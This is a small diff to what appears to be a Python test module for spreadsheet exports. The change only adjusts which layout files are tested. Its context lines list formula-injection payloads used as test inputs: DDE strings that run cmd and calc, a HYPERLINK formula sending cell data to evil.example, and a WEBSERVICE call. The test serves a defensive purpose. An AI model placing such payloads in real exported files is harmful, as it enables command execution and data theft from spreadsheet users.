@@ -30,7 +30,7 @@ STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", *WIDE, " =", "\u00a0="]
 COMMANDS = ["=cmd|' /C calc'!A0", "+1+cmd|'/C x'!A0", '=HYPERLINK("https://evil.example?"&A1,"x")',
             "@SUM(1+1)*cmd|'/C x'!A0", "-2+3+cmd|' /C x'!A0", "=WEBSERVICE(A1)"]  # fmt: skip
 ENDING = "zqf(1)"
-LAYOUTS = sorted(path.stem for path in EXPORTS.glob("*.yaml") if path.stem != "form")
+LAYOUTS = sorted(path.stem for path in EXPORTS.glob("*.yaml") if path.stem not in NO_WORKBOOKS)
 MOMENT = datetime(2026, 11, 3, tzinfo=UTC)
 
 
